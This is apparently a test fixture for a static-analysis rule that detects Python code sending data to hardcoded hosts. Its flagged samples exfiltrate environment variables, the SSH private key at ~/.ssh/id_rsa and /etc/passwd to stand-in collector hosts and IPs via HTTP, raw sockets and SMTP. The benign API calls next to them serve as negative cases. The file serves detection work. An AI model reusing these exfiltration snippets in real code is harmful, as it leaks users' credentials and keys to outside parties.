import json
import os
import smtplib
import socket
import urllib.request
from email.message import EmailMessage

import requests

COLLECT = "http://203.0.113.7:8000/c"


def steal_env():
    # ruleid: python-exfil-to-hardcoded-host
    requests.post("https://collector.example.net/env", json=dict(os.environ), timeout=5)


def steal_env_const():
    blob = json.dumps({k: v for k, v in os.environ.items()})
    # ruleid: python-exfil-to-hardcoded-host
    requests.post(COLLECT, data=blob)


def steal_key():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    s = socket.socket()
    s.connect(("203.0.113.7", 9001))
    # ruleid: python-exfil-to-hardcoded-host
    s.sendall(key.encode())


def steal_passwd():
    data = open("/etc/passwd", "rb").read()
    # ruleid: python-exfil-to-hardcoded-host
    req = urllib.request.Request("http://203.0.113.7/u", data=data)
    urllib.request.urlopen(req)


def mail_env():
    body = "Subject: env\n\n" + str(os.environ)
    server = smtplib.SMTP("smtp.mail-drop.example", 587)
    # ruleid: python-exfil-to-hardcoded-host
    server.sendmail("a@example.net", ["drop@example.net"], body)


def call_api(payload):
    token = os.environ["API_TOKEN"]
    # ok: python-exfil-to-hardcoded-host
    return requests.post("https://api.example.com/v1/items", json=payload, headers={"Authorization": f"Bearer {token}"})


def report(results):
    # ok: python-exfil-to-hardcoded-host
    requests.post("https://hooks.example.com/ci", json={"passed": results.passed, "host": os.environ.get("CI_RUNNER")})


def upload(path, url):
    with open(path, "rb") as f:
        # ok: python-exfil-to-hardcoded-host
        requests.post(url, files={"file": f})


def run_child(cmd):
    import subprocess
    env = dict(os.environ, LANG="C")
    # ok: python-exfil-to-hardcoded-host
    return subprocess.run(cmd, env=env, check=True)
